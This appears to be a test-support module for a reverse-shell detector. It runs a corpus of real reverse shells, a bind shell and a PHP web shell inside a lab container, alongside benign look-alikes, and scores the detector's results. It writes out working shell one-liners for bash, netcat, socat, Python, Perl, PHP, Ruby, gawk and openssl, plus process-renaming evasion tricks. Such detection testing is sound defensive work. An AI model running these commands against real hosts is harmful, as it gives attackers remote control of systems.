"""The hunt's technique corpus: real reverse shells of every technique issue 20 lists, and benign
look-alikes, started inside a lab container (test support, reusable by any hunt test).

Every case runs for real: the shells connect to bounded listeners on the lab bridge address
198.18.0.1 (plain TCP, TLS for ``openssl s_client``, UDP), bind shells, web shells and
socket-activated services are reached by bounded connections from the controller to the
container's lab address, and one IPv6 case stays inside the container (``::1``) through a
local relay. Each case's processes carry ``HUNT_SCENARIO=<index>`` in their environment (it
follows fork and exec), so they are found by index inside the container
(:func:`scenario_pids`) or from the host's root namespace (:func:`scenario_pids_host`, for a
hunt of the container host).

Example::

    with Corpus(container, container_ip, image) as corpus:
        corpus.start()              # every case, then waits for its connections
        groups = corpus.groups()    # case -> pids inside the container
        ...                         # hunt, then judge with outcomes(by_pid, groups)
"""

from __future__ import annotations

import contextlib
import shlex
import socket
import subprocess
import tempfile
import time
import urllib.parse
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

import hunt_scenarios as hs

GATEWAY = hs.GATEWAY
BIN = hs.BIN
MAX_CONNS = 64
# Fixed ports inside the container (the corpus owns its container).
BIND_PORT = 24444  # nc -l -e (bind shell)
INETD_PORT = 24445  # openbsd-inetd, a declared nowait service
GUNICORN_PORT = 28000
GUNICORN_IDLE_PORT = 28001
PHP_PORT = 28081
REDIS_PORT = 26379
V6_RELAY_PORT = 24006


@dataclass(frozen=True)
class Case:
    """One technique or look-alike. ``command``: sh run detached in the container (``{A}`` lab
    listener address, ``{P}`` TCP, ``{T}`` TLS, ``{U}`` UDP port, ``{B}`` copied binaries);
    ``setup``: sh run (and waited for) before it; ``inbound``: what the controller does to the
    container afterwards: ``("connect", port)`` holds a connection, ``("http", port, path)``
    sends one GET and holds the connection; ``conns``: connections the listeners must see."""

    name: str
    malicious: bool
    command: str
    setup: str = ""
    inbound: tuple[tuple[str, int, str], ...] = ()
    tcp: int = 0
    tls: int = 0
    udp: int = 0
    marker: str = ""  # a command-line substring that also finds it (a process title that overwrote environ)


def _py(code: str) -> str:
    return "exec python3 -c " + shlex.quote(code)


PY_PTY = (
    "import socket,os,pty;s=socket.socket();s.connect(('{A}',{P}));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')"
)
PY_SUBPROCESS = (
    "import socket,subprocess;s=socket.socket();s.connect(('{A}',{P}));"
    "subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())"
)
PY_PIPES = (
    "import socket,subprocess,threading;s=socket.socket();s.connect(('{A}',{P}));"
    "p=subprocess.Popen(['/bin/sh','-i'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT);"
    "f=lambda a,b:[b(x) for x in iter(lambda:a(1024),b'')];"
    "threading.Thread(target=f,args=(p.stdout.read1,s.sendall),daemon=True).start();"
    "f(s.recv,lambda x:(p.stdin.write(x),p.stdin.flush()))"
)
PY_V6 = (
    "import socket,os;s=socket.socket(socket.AF_INET6);s.connect(('::ffff:{A}',{P}));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv('/bin/sh',['sh','-i'])"
)
PERL = (
    'use Socket;$i="{A}";$p={P};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
    'if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,">&S");open(STDOUT,">&S");'
    'open(STDERR,">&S");exec("/bin/sh -i");}};'
)
PHP = '$s=fsockopen("{A}",{P});$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);'
# Ruby opens every fd close-on-exec, so the classic ``exec sprintf("/bin/sh -i <&%d ...")`` one-liner
# dies on "bad fd" today; the working form hands the socket to exec's redirection options.
RUBY = 's=TCPSocket.new("{A}",{P});exec("/bin/sh","-i",[:in,:out,:err]=>s)'
GAWK = (
    'BEGIN {{s = "/inet/tcp/0/{A}/{P}"; while (42) {{ printf "> " |& s; if ((s |& getline c) <= 0) break; '
    "while ((c |& getline) > 0) print $0 |& s; close(c) }} }}"
)
FAKE_NGINX = (
    "import socket,subprocess,time;l=socket.socket();l.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);"
    "l.bind(('0.0.0.0',8080));l.listen();"
    "subprocess.Popen(['/bin/bash','-c','bash -i >& /dev/tcp/{A}/{P} 0>&1']);time.sleep(120)"
)
WSGI = (
    "import subprocess\n"
    "def app(environ, start):\n"
    "    if environ.get('PATH_INFO') == '/run':\n"
    "        subprocess.Popen(['/bin/bash', '-c', 'bash -i >& /dev/tcp/{A}/{P} 0>&1'])\n"
    "    start('200 OK', [('Content-Type', 'text/plain')])\n"
    "    return [b'ok']\n"
)
CI_RUNNER = (
    "import socket,subprocess,time\n"
    "s=socket.create_connection(('{A}',{P}))\n"
    "s.sendall(b'POST /api/v4/jobs/request HTTP/1.1\\r\\nHost: ci\\r\\n\\r\\n')\n"
    "p=subprocess.Popen(['bash','--login'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)\n"
    "p.stdin.write(b'echo building; sleep 100\\n'); p.stdin.flush()\n"
    "time.sleep(110)\n"
)
POLLER = (
    "import http.client,time\n"
    "c=http.client.HTTPConnection('{A}',{P},timeout=120)\n"
    "c.connect()\nc.sock.sendall(b'GET /health HTTP/1.1\\r\\nHost: api\\r\\n\\r\\n')\ntime.sleep(120)\n"
)


def _write(path: str, text: str) -> str:
    """A sh command writing ``text`` to ``path`` (quoted, never concatenated raw)."""
    return f"mkdir -p {shlex.quote(str(Path(path).parent))} && printf %s {shlex.quote(text)} > {shlex.quote(path)}"


def _bash(line: str) -> str:
    return "exec bash -c " + shlex.quote(line)


def cases() -> tuple[Case, ...]:
    """Every technique and look-alike, in a stable order (the index is ``HUNT_SCENARIO``)."""
    web = "bash -c 'bash -i >& /dev/tcp/{A}/{P} 0>&1'"
    return (
        # --- reverse shells -------------------------------------------------------------------
        Case("bash /dev/tcp", True, _bash("exec bash -i >& /dev/tcp/{A}/{P} 0>&1"), tcp=1),
        Case(
            "bash /dev/tcp under a web server (fake nginx listening on 0.0.0.0:8080)",
            True,
            "exec {B}/nginx -c " + shlex.quote(FAKE_NGINX),
            tcp=1,
        ),
        Case(
            "fifo + nc (OpenBSD netcat)",
            True,
            "rm -f /tmp/hf.nc && mkfifo /tmp/hf.nc && exec sh -c 'sh -i </tmp/hf.nc 2>&1 | nc {A} {P} >/tmp/hf.nc'",
            tcp=1,
        ),
        Case("nc -e (netcat-traditional)", True, "exec {B}/nc.traditional -e /bin/sh {A} {P}", tcp=1),
        Case("nc -c (netcat-traditional)", True, "exec {B}/nc.traditional -c 'sh -i' {A} {P}", tcp=1),
        Case("ncat --sh-exec", True, "exec {B}/ncat {A} {P} --sh-exec 'sh -i'", tcp=1),
        Case("ncat -e", True, "exec {B}/ncat -e /bin/bash {A} {P}", tcp=1),
        Case("socat TCP + EXEC pty", True, "exec {B}/socat TCP:{A}:{P} EXEC:/bin/bash,pty,stderr,setsid", tcp=1),
        Case(
            "socat pty relay (exec:'bash -li',pty first)",
            True,
            "exec {B}/socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{A}:{P}",
            tcp=1,
        ),
        Case("busybox nc -e", True, "exec {B}/busybox nc {A} {P} -e /bin/sh", tcp=1),
        Case("python pty.spawn + dup2", True, _py(PY_PTY), tcp=1),
        Case("python subprocess on the socket fds", True, _py(PY_SUBPROCESS), tcp=1),
        Case("python subprocess pipes + relay thread", True, _py(PY_PIPES), tcp=1),
        Case("perl socket + exec", True, "exec perl -e " + shlex.quote(PERL), tcp=1),
        Case("php fsockopen + proc_open", True, "exec php -r " + shlex.quote(PHP), tcp=1),
        Case("ruby TCPSocket + exec", True, "exec ruby -rsocket -e " + shlex.quote(RUBY), tcp=1),
        Case("gawk /inet/tcp", True, "exec gawk " + shlex.quote(GAWK), tcp=1),
        Case(
            "openssl s_client (TLS) + fifo",
            True,
            "rm -f /tmp/hf.ssl && mkfifo /tmp/hf.ssl && exec sh -c "
            "'sh -i </tmp/hf.ssl 2>&1 | openssl s_client -quiet -connect {A}:{T} >/tmp/hf.ssl'",
            tls=1,
        ),
        Case(
            "renamed ncat named like a kernel thread, relaying a fifo shell",
            True,
            "rm -f /tmp/hf.kw && mkfifo /tmp/hf.kw && cp {B}/ncat /var/tmp/.kw && exec bash -c "
            + shlex.quote("sh -i </tmp/hf.kw 2>&1 | (exec -a '[kworker/0:2]' /var/tmp/.kw {A} {P}) >/tmp/hf.kw"),
            tcp=1,
        ),
        Case(
            "renamed socat (as dbus-daemon) with EXEC",
            True,
            "cp {B}/socat /usr/local/sbin/dbus-daemon && exec /usr/local/sbin/dbus-daemon TCP:{A}:{P} "
            "EXEC:'/bin/sh -i',pty,stderr",
            tcp=1,
        ),
        Case(
            "shell spawned by a gunicorn worker (app server)",
            True,
            f"exec gunicorn --chdir /opt/happ -w 1 -b 0.0.0.0:{GUNICORN_PORT} wsgi:app",
            setup=_write("/opt/happ/wsgi.py", WSGI),
            inbound=(("http", GUNICORN_PORT, "/run"),),
            tcp=1,
        ),
        Case(
            "web shell under php -S (web server worker)",
            True,
            f"exec php -S 0.0.0.0:{PHP_PORT} -t /opt/hweb",
            setup=_write("/opt/hweb/s.php", "<?php system($_GET['c']); ?>"),
            inbound=(("http", PHP_PORT, "/s.php?c=" + web),),
            tcp=1,
        ),
        Case(
            "double-forked to init (setsid, background subshell)",
            True,
            "exec setsid sh -c " + shlex.quote("(bash -c 'exec bash -i >& /dev/tcp/{A}/{P} 0>&1' &)"),
            tcp=1,
        ),
        Case("IPv6 socket (AF_INET6, v4-mapped peer)", True, _py(PY_V6), tcp=1),
        Case(
            "IPv6 over ::1 through a local relay (socat TCP6-LISTEN -> TCP4)",
            True,
            f"{{B}}/socat TCP6-LISTEN:{V6_RELAY_PORT},bind=[::1],reuseaddr TCP4:{{A}}:{{P}} & sleep 0.5; "
            + _bash(f"exec bash -i >& /dev/tcp/::1/{V6_RELAY_PORT} 0>&1"),
            tcp=1,
        ),
        Case("UDP: bash /dev/udp", True, _bash("exec bash -i >& /dev/udp/{A}/{U} 0>&1"), udp=1),
        Case("UDP: socat udp + exec", True, "exec {B}/socat udp:{A}:{U} exec:'/bin/sh -i',pty,stderr", udp=1),
        Case(
            "bind shell (nc -l -e)",
            True,
            f"exec {{B}}/nc.traditional -l -p {BIND_PORT} -e /bin/sh",
            inbound=(("connect", BIND_PORT, ""),),
        ),
        # --- benign look-alikes ---------------------------------------------------------------
        Case(
            "python http client (script) holding a connection",
            False,
            "exec python3 /opt/app/poller.py </dev/null >/dev/null 2>&1",
            setup=_write("/opt/app/poller.py", POLLER),
            tcp=1,
        ),
        Case(
            "ssh client waiting on a banner",
            False,
            "exec ssh -o BatchMode=yes -o StrictHostKeyChecking=no -p {P} probe@{A} </dev/null >/dev/null 2>&1",
            tcp=1,
        ),
        Case(
            "tmux session: a shell running an ssh client",
            False,
            "exec tmux new-session -d -s hunt "
            + shlex.quote("ssh -o BatchMode=yes -o StrictHostKeyChecking=no -p {P} admin@{A}; sleep 100"),
            tcp=1,
        ),
        Case("tmux session: an idle shell", False, "exec tmux -L hunt-idle new-session -d -s idle"),
        Case(
            "backup pipe: tar | ssh",
            False,
            "exec sh -c "
            + shlex.quote(
                "tar cf - /etc 2>/dev/null | ssh -o BatchMode=yes -o StrictHostKeyChecking=no "
                "-p {P} backup@{A} 'cat > /backup/etc.tar'"
            ),
            tcp=1,
        ),
        Case(
            "backup pipe: tar | nc",
            False,
            "exec sh -c " + shlex.quote("tar cf - /usr/share/doc 2>/dev/null | nc -N {A} {P}"),
            tcp=1,
        ),
        Case(
            "CI runner feeding a build shell (bash --login) over pipes",
            False,
            "exec python3 /opt/ci/runner.py </dev/null >/dev/null 2>&1",
            setup=_write("/opt/ci/runner.py", CI_RUNNER),
            tcp=1,
        ),
        Case("download: curl", False, "exec curl -s -o /dev/null http://{A}:{P}/big.iso", tcp=1),
        Case("download: wget", False, "exec wget -q -O /dev/null http://{A}:{P}/big.iso", tcp=1),
        Case("installer pipe: curl | sh", False, "exec sh -c 'curl -s http://{A}:{P}/install.sh | sh'", tcp=1),
        Case(
            "database server (redis) with a client connected",
            False,
            f"exec redis-server --bind 0.0.0.0 --port {REDIS_PORT} --protected-mode no --save '' --appendonly no",
            inbound=(("connect", REDIS_PORT, ""),),
            marker=f"redis-server 0.0.0.0:{REDIS_PORT}",
        ),
        Case(
            "app server (gunicorn) serving a client",
            False,
            f"exec gunicorn --chdir /opt/happ -w 1 -b 0.0.0.0:{GUNICORN_IDLE_PORT} wsgi:app",
            setup=_write("/opt/happ/wsgi.py", WSGI),
            inbound=(("connect", GUNICORN_IDLE_PORT, ""),),
        ),
        Case(
            "socket-activated service (openbsd-inetd nowait, shell script handler)",
            False,
            "exec inetd -d /opt/inetd/inetd.conf",
            setup=_write("/opt/inetd/handler.sh", 'while read -r l; do echo "$l"; done\n')
            + " && "
            + _write(
                "/opt/inetd/inetd.conf", f"{INETD_PORT} stream tcp nowait root /bin/sh sh /opt/inetd/handler.sh\n"
            ),
            inbound=(("connect", INETD_PORT, ""),),
        ),
    )


#: The interactive SSH session the test opens from the controller (``sshd: USER@pts/N`` and its tree).
INTERACTIVE = Case("interactive SSH session (pty, login shell)", False, "")


# --- listeners on the lab bridge ---------------------------------------------------------------


class UdpListener(hs.UdpListener):
    """:class:`hunt_scenarios.UdpListener` on 198.18.0.1 remembering at most MAX_CONNS senders."""

    def __init__(self, lifetime: float = 90.0) -> None:
        super().__init__(lifetime, MAX_CONNS)


class TlsListener(hs.Listener):
    """:class:`hunt_scenarios.Listener` that completes a TLS handshake (self-signed, made with the
    controller's openssl) on each connection, so ``openssl s_client`` gets a real session."""

    def __init__(self, lifetime: float = 90.0) -> None:
        import ssl

        super().__init__(lifetime)
        self._dir = Path(tempfile.mkdtemp(prefix="hunt-tls-"))
        key, cert = self._dir / "key.pem", self._dir / "cert.pem"
        subprocess.run(
            [
                *("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=lab", "-days", "1"),
                *("-keyout", str(key), "-out", str(cert)),
            ],
            check=True,
            capture_output=True,
            timeout=60,
        )
        self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.ctx.load_cert_chain(cert, key)

    def _take(self, conn: socket.socket) -> None:
        try:
            conn.settimeout(10)
            self.conns.append(self.ctx.wrap_socket(conn, server_side=True))
        except OSError:
            conn.close()

    def __exit__(self, *exc: object) -> None:
        super().__exit__(*exc)
        for f in self._dir.iterdir():
            f.unlink()
        self._dir.rmdir()


def _query(path: str) -> str:
    """``/s.php?c=<command>`` with the command URL-encoded."""
    base, sep, query = path.partition("?")
    key, eq, value = query.partition("=")
    return f"{base}{sep}{key}{eq}{urllib.parse.quote(value)}" if eq else path


def _inbound(ip: str, kind: str, port: int, path: str, deadline: float) -> socket.socket | None:
    """Open a connection to the container (retrying until ``deadline``, the server may still be
    starting); for ``http`` send one GET. The socket is returned open (closed by the caller)."""
    while time.monotonic() < deadline:
        try:
            conn = socket.create_connection((ip, port), timeout=2)
        except OSError:
            time.sleep(0.2)
            continue
        if kind == "http":
            conn.sendall(f"GET {path} HTTP/1.1\r\nHost: lab\r\nConnection: keep-alive\r\n\r\n".encode())
        return conn
    return None


@dataclass
class Corpus:
    """Runs :func:`cases` in one lab container: listeners, copies of the purged netcat-likes, the
    cases, the inbound connections; kills every case's processes by pid on exit."""

    container: str
    ip: str  # the container's lab address (inbound connections go there)
    image: str  # the lab image the netcat-likes are copied from
    lifetime: float = 90.0
    cases: tuple[Case, ...] = field(default_factory=cases)
    tcp: hs.Listener | None = None
    tls: TlsListener | None = None
    udp: UdpListener | None = None
    inbound: list[socket.socket] = field(default_factory=list)
    _stack: contextlib.ExitStack = field(default_factory=contextlib.ExitStack)

    def __enter__(self) -> Corpus:
        route = hs.sh(self.container, f"ip route get {GATEWAY}")
        if " dev eth0 " not in route:
            raise AssertionError(f"the lab listener is not reached over the lab bridge: {route!r}")
        hs.copy_binaries(self.image, self.container)
        self.tcp = self._stack.enter_context(hs.Listener(lifetime=self.lifetime, max_conns=MAX_CONNS))
        self.tls = self._stack.enter_context(TlsListener(lifetime=self.lifetime))
        self.udp = self._stack.enter_context(UdpListener(lifetime=self.lifetime))
        return self

    def __exit__(self, *exc: object) -> None:
        try:
            for c in self.inbound:
                with contextlib.suppress(OSError):
                    c.close()
            pids = set().union(*self.groups_by_index().values()) if self.groups_by_index() else set()
            hs.kill(self.container, pids)
            hs.sh(self.container, "tmux kill-server; tmux -L hunt-idle kill-server; rm -f /tmp/hf.*; true", check=False)
        finally:
            self._stack.close()

    def render(self, text: str) -> str:
        assert self.tcp is not None and self.tls is not None and self.udp is not None
        values = {"A": GATEWAY, "P": self.tcp.port, "T": self.tls.port, "U": self.udp.port, "B": BIN}
        return text.format(**values)

    def start(self, timeout: float = 20.0) -> None:
        """Start every case, open the inbound connections, wait for the expected connections."""
        assert self.tcp is not None and self.tls is not None and self.udp is not None
        for i, case in enumerate(self.cases):
            if case.setup:
                hs.sh(self.container, self.render(case.setup))
            hs.podman("exec", "-d", "-e", f"HUNT_SCENARIO={i}", self.container, "sh", "-c", self.render(case.command))
        deadline = time.monotonic() + timeout
        for case in self.cases:
            for kind, port, path in case.inbound:
                conn = _inbound(self.ip, kind, port, _query(self.render(path)), deadline)
                if conn is None:
                    raise AssertionError(f"{case.name}: {self.ip}:{port} never accepted a connection")
                self.inbound.append(conn)
        want_tcp = sum(c.tcp for c in self.cases)
        want_tls = sum(c.tls for c in self.cases)
        want_udp = sum(c.udp for c in self.cases)
        while time.monotonic() < deadline and (
            len(self.tcp.conns) < want_tcp or len(self.tls.conns) < want_tls or len(self.udp.peers) < want_udp
        ):
            time.sleep(0.1)
        got = (len(self.tcp.conns), len(self.tls.conns), len(self.udp.peers))
        if got != (want_tcp, want_tls, want_udp):
            raise AssertionError(f"connections (tcp, tls, udp) {got}, expected {(want_tcp, want_tls, want_udp)}")

    def groups_by_index(self) -> dict[int, set[int]]:
        """Case index -> pids: ``HUNT_SCENARIO`` in the environment, or the case's marker in the
        command line (redis's process title overwrites the environment block /proc shows)."""
        found = hs.scenario_pids(self.container)
        marked = {i: c.marker for i, c in enumerate(self.cases) if c.marker}
        if marked:
            for pid, cmd in hs.pids_of(self.container).items():
                for i, marker in marked.items():
                    if marker in cmd:
                        found.setdefault(i, set()).add(pid)
        return found

    def groups(self) -> list[tuple[Case, set[int]]]:
        """(case, its pids inside the container) for every case, then :data:`INTERACTIVE`."""
        by_index = self.groups_by_index()
        return [(case, by_index.get(i, set())) for i, case in enumerate(self.cases)] + [
            (INTERACTIVE, self.session_pids())
        ]

    def session_pids(self) -> set[int]:
        """Interactive SSH sessions: every ``sshd: USER@pts/N`` process and its descendants."""
        rows = [line.split(None, 2) for line in hs.sh(self.container, "ps -eo pid=,ppid=,args=").splitlines()]
        rows = [r for r in rows if len(r) == 3 and r[0].isdigit() and r[1].isdigit()]
        tree = {int(r[0]) for r in rows if r[2].startswith("sshd:") and "@pts/" in r[2]}
        grew = True
        while grew:
            kids = {int(r[0]) for r in rows if int(r[1]) in tree} - tree
            tree |= kids
            grew = bool(kids)
        return tree


def host_groups(corpus: Corpus, container_id: str) -> list[tuple[Case, set[int]]]:
    """:meth:`Corpus.groups` as host pids, for a hunt from the host's root namespace: the container's
    processes (its id in their cgroup) by ``HUNT_SCENARIO``, marker and SSH session tree."""
    by_index = hs.host_scenario_pids(container_id)
    rows: dict[int, tuple[int, str]] = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if container_id.encode() not in (entry / "cgroup").read_bytes():
                continue
            stat = (entry / "stat").read_text()
            cmd = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace").strip()
        except OSError:
            continue
        rows[int(entry.name)] = (int(stat[stat.rindex(")") + 2 :].split()[1]), cmd)
    for i, case in enumerate(corpus.cases):
        if case.marker:
            by_index.setdefault(i, set()).update(p for p, (_, cmd) in rows.items() if case.marker in cmd)
    tree = {p for p, (_, cmd) in rows.items() if cmd.startswith("sshd:") and "@pts/" in cmd}
    grew = True
    while grew:
        kids = {p for p, (pp, _) in rows.items() if pp in tree} - tree
        tree |= kids
        grew = bool(kids)
    return [(case, by_index.get(i, set())) for i, case in enumerate(corpus.cases)] + [(INTERACTIVE, tree)]


def scenario_pids_host(container_pid: int) -> dict[int, set[int]]:
    """Case index -> host pids, for a hunt from the host's root namespace: every process in the
    container's pid namespace (that of ``container_pid``, e.g. ``podman inspect -f {{.State.Pid}}``)
    whose environment carries ``HUNT_SCENARIO=<index>``."""
    own = Path(f"/proc/{container_pid}/ns/pid").resolve()
    out: dict[int, set[int]] = {}
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            if (proc / "ns" / "pid").resolve() != own:
                continue
            env = (proc / "environ").read_bytes()
        except OSError:
            continue
        for var in env.split(b"\0"):
            if var.startswith(b"HUNT_SCENARIO=") and var[14:].isdigit():
                out.setdefault(int(var[14:]), set()).add(int(proc.name))
    return out


RANK = {"": 0, "low": 1, "medium": 2, "high": 3}


@dataclass(frozen=True)
class Outcome:
    case: str
    malicious: bool
    tier: str  # the highest tier among the case's processes ("" when none was detected)
    pids: frozenset[int]


def outcomes(by_pid: Mapping[int, str], groups: list[tuple[Case, set[int]]]) -> list[Outcome]:
    """Per case: the highest tier (``by_pid``: pid -> severity) among its processes."""
    return [
        Outcome(
            case.name,
            case.malicious,
            max((by_pid.get(p, "") for p in pids), key=RANK.__getitem__, default=""),
            frozenset(pids),
        )
        for case, pids in groups
    ]


def table(results: list[Outcome]) -> str:
    """A markdown table technique -> tier (for docs and the test's failure message)."""
    lines = ["| case | reverse shell | tier |", "|---|---|---|"]
    lines += [f"| {o.case} | {'yes' if o.malicious else 'no (look-alike)'} | {o.tier or 'none'} |" for o in results]
    return "\n".join(lines)
